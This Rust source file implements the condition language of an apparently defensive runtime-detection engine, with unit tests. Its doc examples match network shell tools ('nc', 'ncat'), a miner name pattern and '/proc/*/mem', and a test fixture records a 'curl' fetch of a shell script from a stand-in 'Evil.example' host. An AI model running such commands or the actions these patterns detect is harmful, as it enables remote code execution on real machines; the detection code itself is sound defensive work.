//! The condition language of rule files, compiled once into a tree evaluated against typed events.
//!
//! A condition is either a test on one field or a combination:
//!
//! | form | passes when |
//! |---|---|
//! | `{ field = "process.name", equals = "nc" }` | a value equals (string, number or boolean) |
//! | `{ field = …, in = ["nc", "ncat"] }` | a value equals one of the list |
//! | `{ field = …, prefix = "/tmp/" }` / `suffix` / `contains` | a string value starts with / ends with / contains one of the given strings (a string or a list) |
//! | `{ field = …, glob = "/proc/*/mem" }` | a string value matches one of the globs: `*` any run without `/`, `**` any run, `?` one character |
//! | `{ field = …, regex = "^x(mr)?ig$" }` | a string value matches the regex (compiled once, unanchored unless you anchor it) |
//! | `{ field = …, gt = 0 }` / `gte` / `lt` / `lte` | a numeric value compares |
//! | `{ field = …, all_bits = 0o4000 }` / `any_bits` | a numeric value has all / any of the bits set |
//! | `{ field = …, exists = true }` | the field has (or with `false`, has no) value |
//! | `{ all = [c, …] }` / `{ any = [c, …] }` / `{ not = c }` | all / any of the conditions pass / `c` fails |
//!
//! `nocase = true` makes string tests ignore ASCII case. Fields with several values (argv,
//! ancestors, DNS questions) pass a test when any value does, so `not` over such a test means
//! "no value passes".

use memchr::memmem;
use regex::Regex;

use super::event::RuntimeEvent;
use super::fields::{Field, Kind, Val};

#[derive(Debug)]
pub enum Condition {
    All(Vec<Condition>),
    Any(Vec<Condition>),
    Not(Box<Condition>),
    Test { field: Field, test: Test },
}

#[derive(Debug)]
pub enum Test {
    StrIn(Vec<Box<str>>),
    StrInNoCase(Vec<Box<str>>),
    Prefix(Vec<Box<str>>, bool),
    Suffix(Vec<Box<str>>, bool),
    Contains(Vec<memmem::Finder<'static>>),
    /// Globs, case-insensitive `contains`, and regexes all become one regex.
    Regex(Regex),
    NumIn(Vec<f64>),
    Compare(Cmp, f64),
    AllBits(u64),
    AnyBits(u64),
    Bool(bool),
    Exists(bool),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cmp {
    Gt,
    Gte,
    Lt,
    Lte,
}

impl Condition {
    pub fn matches(&self, ev: &RuntimeEvent) -> bool {
        match self {
            Self::All(items) => items.iter().all(|c| c.matches(ev)),
            Self::Any(items) => items.iter().any(|c| c.matches(ev)),
            Self::Not(inner) => !inner.matches(ev),
            Self::Test {
                field,
                test: Test::Exists(want),
            } => field.any(ev, &mut |_| true) == *want,
            Self::Test { field, test } => field.any(ev, &mut |v| test.passes(v)),
        }
    }

    /// Every field the condition reads (for validation against the rule's event types).
    pub fn fields(&self, out: &mut Vec<Field>) {
        match self {
            Self::All(items) | Self::Any(items) => items.iter().for_each(|c| c.fields(out)),
            Self::Not(inner) => inner.fields(out),
            Self::Test { field, .. } => out.push(*field),
        }
    }
}

fn has_prefix(text: &str, prefix: &str, nocase: bool) -> bool {
    text.len() >= prefix.len()
        && if nocase {
            text.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
        } else {
            text.as_bytes().starts_with(prefix.as_bytes())
        }
}

fn has_suffix(text: &str, suffix: &str, nocase: bool) -> bool {
    text.len() >= suffix.len()
        && if nocase {
            text.as_bytes()[text.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
        } else {
            text.as_bytes().ends_with(suffix.as_bytes())
        }
}

impl Test {
    fn passes(&self, value: Val<'_>) -> bool {
        match (self, value) {
            (Self::StrIn(list), Val::Str(s)) => list.iter().any(|w| **w == *s),
            (Self::StrInNoCase(list), Val::Str(s)) => {
                list.iter().any(|w| w.eq_ignore_ascii_case(s))
            }
            (Self::Prefix(list, nocase), Val::Str(s)) => {
                list.iter().any(|p| has_prefix(s, p, *nocase))
            }
            (Self::Suffix(list, nocase), Val::Str(s)) => {
                list.iter().any(|p| has_suffix(s, p, *nocase))
            }
            (Self::Contains(finders), Val::Str(s)) => {
                finders.iter().any(|f| f.find(s.as_bytes()).is_some())
            }
            (Self::Regex(re), Val::Str(s)) => re.is_match(s),
            (Self::NumIn(list), Val::Num(n)) => list.contains(&n),
            (Self::Compare(op, bound), Val::Num(n)) => match op {
                Cmp::Gt => n > *bound,
                Cmp::Gte => n >= *bound,
                Cmp::Lt => n < *bound,
                Cmp::Lte => n <= *bound,
            },
            (Self::AllBits(bits), Val::Num(n)) => n >= 0.0 && (n as u64) & bits == *bits,
            (Self::AnyBits(bits), Val::Num(n)) => n >= 0.0 && (n as u64) & bits != 0,
            (Self::Bool(want), Val::Bool(b)) => b == *want,
            _ => false,
        }
    }
}

/// A rule-file value for `equals` / `in`.
#[derive(Debug, Clone, PartialEq, serde::Deserialize)]
#[serde(untagged)]
pub enum Scalar {
    Bool(bool),
    Int(i64),
    Float(f64),
    Str(String),
}

/// One string or a list of them.
#[derive(Debug, Clone, PartialEq, serde::Deserialize)]
#[serde(untagged)]
pub enum OneOrMany {
    One(String),
    Many(Vec<String>),
}

impl OneOrMany {
    fn into_vec(self) -> Vec<String> {
        match self {
            Self::One(s) => vec![s],
            Self::Many(v) => v,
        }
    }
}

/// Translates a glob to an anchored regex: `**` any run, `*` any run without `/`, `?` one
/// character; everything else literal.
pub fn glob_to_regex(glob: &str) -> String {
    let mut out = String::from("^");
    let mut chars = glob.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '*' if chars.peek() == Some(&'*') => {
                chars.next();
                out.push_str(".*");
            }
            '*' => out.push_str("[^/]*"),
            '?' => out.push('.'),
            other => out.push_str(&regex::escape(other.encode_utf8(&mut [0; 4]))),
        }
    }
    out.push('$');
    out
}

/// The operator part of a leaf condition, as read from the rule file.
#[derive(Debug, Default)]
pub struct LeafSpec {
    pub equals: Option<Scalar>,
    pub in_: Option<Vec<Scalar>>,
    pub prefix: Option<OneOrMany>,
    pub suffix: Option<OneOrMany>,
    pub contains: Option<OneOrMany>,
    pub glob: Option<OneOrMany>,
    pub regex: Option<String>,
    pub gt: Option<f64>,
    pub gte: Option<f64>,
    pub lt: Option<f64>,
    pub lte: Option<f64>,
    pub all_bits: Option<u64>,
    pub any_bits: Option<u64>,
    pub exists: Option<bool>,
    pub nocase: bool,
}

/// An operator's compilation, run once the operator is known to be the only one.
type DeferredTest = Box<dyn FnOnce() -> Result<Test, String>>;

/// Compiles one leaf test on `field`; the error is the reason (the caller adds where).
pub fn compile_leaf(field: Field, spec: LeafSpec) -> Result<Test, String> {
    let LeafSpec {
        equals,
        in_,
        prefix,
        suffix,
        contains,
        glob,
        regex,
        gt,
        gte,
        lt,
        lte,
        all_bits,
        any_bits,
        exists,
        nocase,
    } = spec;
    let mut ops: Vec<(&str, DeferredTest)> = Vec::new();
    let path = field.path();
    let kind = field.kind();
    let need = move |want: Kind, op: &str| -> Result<(), String> {
        if kind == want {
            Ok(())
        } else {
            Err(format!(
                "operator {op:?} needs a {} field; {path} is {}",
                kind_name(want),
                kind_name(kind)
            ))
        }
    };
    if let Some(v) = equals {
        ops.push((
            "equals",
            Box::new(move || scalars(field, "equals", vec![v], nocase)),
        ));
    }
    if let Some(v) = in_ {
        ops.push((
            "in",
            Box::new(move || {
                if v.is_empty() {
                    return Err("operator \"in\" needs at least one value".into());
                }
                scalars(field, "in", v, nocase)
            }),
        ));
    }
    for (op, value, make) in [
        (
            "prefix",
            prefix,
            (|l, c| Test::Prefix(l, c)) as fn(Vec<Box<str>>, bool) -> Test,
        ),
        ("suffix", suffix, |l, c| Test::Suffix(l, c)),
    ] {
        if let Some(v) = value {
            ops.push((
                op,
                Box::new(move || {
                    need(Kind::Str, op)?;
                    let list = non_empty(op, v.into_vec())?;
                    Ok(make(
                        list.into_iter().map(String::into_boxed_str).collect(),
                        nocase,
                    ))
                }),
            ));
        }
    }
    if let Some(v) = contains {
        ops.push((
            "contains",
            Box::new(move || {
                need(Kind::Str, "contains")?;
                let list = non_empty("contains", v.into_vec())?;
                if nocase {
                    let alternatives: Vec<String> = list.iter().map(|s| regex::escape(s)).collect();
                    return build_regex(&format!("(?i){}", alternatives.join("|")))
                        .map(Test::Regex);
                }
                Ok(Test::Contains(
                    list.iter()
                        .map(|s| memmem::Finder::new(s.as_bytes()).into_owned())
                        .collect(),
                ))
            }),
        ));
    }
    if let Some(v) = glob {
        ops.push((
            "glob",
            Box::new(move || {
                need(Kind::Str, "glob")?;
                let list = non_empty("glob", v.into_vec())?;
                let alternatives: Vec<String> = list
                    .iter()
                    .map(|g| format!("(?:{})", glob_to_regex(g)))
                    .collect();
                let flags = if nocase { "(?i)" } else { "" };
                build_regex(&format!("{flags}{}", alternatives.join("|"))).map(Test::Regex)
            }),
        ));
    }
    if let Some(v) = regex {
        ops.push((
            "regex",
            Box::new(move || {
                need(Kind::Str, "regex")?;
                let flags = if nocase { "(?i)" } else { "" };
                build_regex(&format!("{flags}{v}")).map(Test::Regex)
            }),
        ));
    }
    for (op, value, cmp) in [
        ("gt", gt, Cmp::Gt),
        ("gte", gte, Cmp::Gte),
        ("lt", lt, Cmp::Lt),
        ("lte", lte, Cmp::Lte),
    ] {
        if let Some(v) = value {
            ops.push((
                op,
                Box::new(move || {
                    need(Kind::Num, op)?;
                    Ok(Test::Compare(cmp, v))
                }),
            ));
        }
    }
    if let Some(v) = all_bits {
        ops.push((
            "all_bits",
            Box::new(move || need(Kind::Num, "all_bits").map(|_| Test::AllBits(v))),
        ));
    }
    if let Some(v) = any_bits {
        ops.push((
            "any_bits",
            Box::new(move || need(Kind::Num, "any_bits").map(|_| Test::AnyBits(v))),
        ));
    }
    if let Some(v) = exists {
        ops.push(("exists", Box::new(move || Ok(Test::Exists(v)))));
    }
    match ops.len() {
        0 => Err(format!(
            "condition on {path} has no operator (equals, in, prefix, suffix, contains, glob, regex, gt, gte, lt, lte, all_bits, any_bits, exists)"
        )),
        1 => (ops.pop().expect("one operator").1)(),
        _ => {
            let names: Vec<&str> = ops.iter().map(|(n, _)| *n).collect();
            Err(format!(
                "condition on {path} has several operators ({}); write one condition per operator inside `all`",
                names.join(", ")
            ))
        }
    }
}

fn kind_name(kind: Kind) -> &'static str {
    match kind {
        Kind::Str => "string",
        Kind::Num => "numeric",
        Kind::Bool => "boolean",
    }
}

fn non_empty(op: &str, list: Vec<String>) -> Result<Vec<String>, String> {
    if list.is_empty() {
        Err(format!("operator {op:?} needs at least one value"))
    } else {
        Ok(list)
    }
}

fn build_regex(pattern: &str) -> Result<Regex, String> {
    regex::RegexBuilder::new(pattern)
        .size_limit(1 << 20)
        .build()
        .map_err(|e| format!("bad regex: {e}"))
}

fn scalars(field: Field, op: &str, values: Vec<Scalar>, nocase: bool) -> Result<Test, String> {
    let path = field.path();
    let wrong = |v: &Scalar| {
        format!(
            "operator {op:?} on {path} ({} field) got {v:?}",
            kind_name(field.kind())
        )
    };
    match field.kind() {
        Kind::Str => {
            let list = values
                .iter()
                .map(|v| match v {
                    Scalar::Str(s) => Ok(s.clone().into_boxed_str()),
                    other => Err(wrong(other)),
                })
                .collect::<Result<Vec<_>, _>>()?;
            Ok(if nocase {
                Test::StrInNoCase(list)
            } else {
                Test::StrIn(list)
            })
        }
        Kind::Num => values
            .iter()
            .map(|v| match v {
                Scalar::Int(i) => Ok(*i as f64),
                Scalar::Float(f) => Ok(*f),
                other => Err(wrong(other)),
            })
            .collect::<Result<Vec<_>, _>>()
            .map(Test::NumIn),
        Kind::Bool => match values.as_slice() {
            [Scalar::Bool(b)] => Ok(Test::Bool(*b)),
            [other] => Err(wrong(other)),
            _ => Err(format!(
                "operator {op:?} on boolean {path}: use equals = true or false"
            )),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec(args: &str) -> RuntimeEvent {
        RuntimeEvent::from_json(&format!(
            r#"{{"type":"process_exec","time":"2026-01-01T00:00:00Z","process":{{"name":"curl","executable":"/usr/bin/curl","uid":1000,"args":{args}}},"exec":{{}}}}"#
        ))
        .unwrap()
    }

    fn leaf(field: &str, spec: LeafSpec) -> Condition {
        let field = Field::parse(field).unwrap();
        Condition::Test {
            field,
            test: compile_leaf(field, spec).unwrap(),
        }
    }

    /// A leaf spec with one operator set by `set`.
    fn op(set: impl FnOnce(&mut LeafSpec)) -> LeafSpec {
        let mut spec = LeafSpec::default();
        set(&mut spec);
        spec
    }

    fn text(v: &str) -> Option<OneOrMany> {
        Some(OneOrMany::One(v.into()))
    }

    fn str_(v: &str) -> Option<Scalar> {
        Some(Scalar::Str(v.into()))
    }

    /// Each case: field, operator, whether it holds on `ev`.
    fn check(ev: &RuntimeEvent, cases: Vec<(&str, LeafSpec, bool)>) {
        for (i, (field, spec, expected)) in cases.into_iter().enumerate() {
            let described = format!("case {i}: {field} {spec:?}");
            assert_eq!(leaf(field, spec).matches(ev), expected, "{described}");
        }
    }

    #[test]
    fn string_operators() {
        let ev = exec(r#"["curl","-s","http://Evil.example/x.sh"]"#);
        check(
            &ev,
            vec![
                ("process.name", op(|s| s.equals = str_("curl")), true),
                ("process.name", op(|s| s.equals = str_("CURL")), false),
                (
                    "process.name",
                    op(|s| (s.equals, s.nocase) = (str_("CURL"), true)),
                    true,
                ),
                ("process.executable", op(|s| s.prefix = text("/usr/")), true),
                (
                    "process.executable",
                    op(|s| s.prefix = text("/tmp/")),
                    false,
                ),
                ("process.args", op(|s| s.suffix = text(".sh")), true),
                (
                    "process.args",
                    op(|s| s.contains = text("evil.example")),
                    false,
                ),
                (
                    "process.args",
                    op(|s| (s.contains, s.nocase) = (text("evil.example"), true)),
                    true,
                ),
                (
                    "process.executable",
                    op(|s| s.glob = text("/usr/*/curl")),
                    true,
                ),
                (
                    "process.executable",
                    op(|s| s.glob = text("/*/curl")),
                    false,
                ),
                (
                    "process.executable",
                    op(|s| s.glob = text("/**/curl")),
                    true,
                ),
                (
                    "process.cmdline",
                    op(|s| s.regex = Some(r"-s\s+http".into())),
                    true,
                ),
                (
                    "process.cmdline",
                    op(|s| s.regex = Some(r"^-s".into())),
                    false,
                ),
            ],
        );
    }

    #[test]
    fn numeric_boolean_and_existence_operators() {
        let ev = exec(r#"["curl"]"#);
        let ints = |v: &[i64]| Some(v.iter().map(|&i| Scalar::Int(i)).collect());
        check(
            &ev,
            vec![
                ("process.uid", op(|s| s.gte = Some(1000.0)), true),
                ("process.uid", op(|s| s.lt = Some(1000.0)), false),
                ("process.uid", op(|s| s.in_ = ints(&[0, 1000])), true),
                ("process.uid", op(|s| s.all_bits = Some(0o1000)), true),
                ("process.uid", op(|s| s.any_bits = Some(0o7)), false),
                (
                    "exec.setuid",
                    op(|s| s.equals = Some(Scalar::Bool(false))),
                    true,
                ),
                ("process.sha256", op(|s| s.exists = Some(false)), true),
                ("process.name", op(|s| s.exists = Some(false)), false),
            ],
        );
    }

    #[test]
    fn combinators() {
        let ev = exec(r#"["curl"]"#);
        let yes = || leaf("process.name", op(|s| s.equals = str_("curl")));
        let no = || leaf("process.name", op(|s| s.equals = str_("wget")));
        assert!(Condition::All(vec![yes(), yes()]).matches(&ev));
        assert!(!Condition::All(vec![yes(), no()]).matches(&ev));
        assert!(Condition::Any(vec![no(), yes()]).matches(&ev));
        assert!(!Condition::Any(vec![no(), no()]).matches(&ev));
        assert!(Condition::Not(Box::new(no())).matches(&ev));
    }

    #[test]
    fn compile_errors_say_why() {
        let field = Field::parse("process.uid").unwrap();
        let err = compile_leaf(
            field,
            LeafSpec {
                prefix: Some(OneOrMany::One("1".into())),
                ..Default::default()
            },
        )
        .unwrap_err();
        assert!(err.contains("needs a string field"), "{err}");
        let field = Field::parse("process.name").unwrap();
        let err = compile_leaf(
            field,
            LeafSpec {
                regex: Some("(".into()),
                ..Default::default()
            },
        )
        .unwrap_err();
        assert!(err.contains("bad regex"), "{err}");
        let err = compile_leaf(field, LeafSpec::default()).unwrap_err();
        assert!(err.contains("no operator"), "{err}");
        let err = compile_leaf(
            field,
            LeafSpec {
                regex: Some("x".into()),
                prefix: Some(OneOrMany::One("x".into())),
                ..Default::default()
            },
        )
        .unwrap_err();
        assert!(err.contains("several operators"), "{err}");
        let err = compile_leaf(
            field,
            LeafSpec {
                equals: Some(Scalar::Int(3)),
                ..Default::default()
            },
        )
        .unwrap_err();
        assert!(err.contains("got Int(3)"), "{err}");
    }

    #[test]
    fn globs_translate() {
        assert_eq!(glob_to_regex("/proc/*/mem"), "^/proc/[^/]*/mem$");
        assert_eq!(glob_to_regex("a.b?**"), r"^a\.b..*$");
    }
}
